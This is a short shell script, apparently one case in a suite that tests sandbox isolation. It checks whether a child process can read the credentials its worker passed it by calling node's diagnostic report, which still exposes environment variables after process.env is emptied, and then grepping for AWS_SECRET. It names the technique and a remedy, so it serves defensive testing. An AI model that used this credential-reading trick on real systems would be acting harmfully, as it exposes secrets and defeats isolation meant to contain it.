#!/bin/sh
# SPDX-License-Identifier: MIT
#
# Goal:  the credentials that the worker gave its child.
# Means: the diagnostic report of node has the environment in it: process.env may have been emptied, as
#        runners of JavaScript do, and the report reads what the process has.
#
# shellcheck disable=SC2034 # attack.sh reads the words

effect="the worker's credentials reach the student"
means="process.report.getReport(), which node keeps beside process.env"
oracle=secret:environ
needs=node
attack_id="T1552.001, CWE-526"
remedy="an environment built from a list"
seconds=30 # of a busy machine's

attack() {
	attempting
	node -e '
		const seen = JSON.stringify(process.report.getReport().environmentVariables);
		console.log(seen.includes("AWS_SECRET") ? seen : "nothing");
	' | grep AWS_SECRET || denied "no credential in the report"
}

. "${0%/*}/../attack.sh"
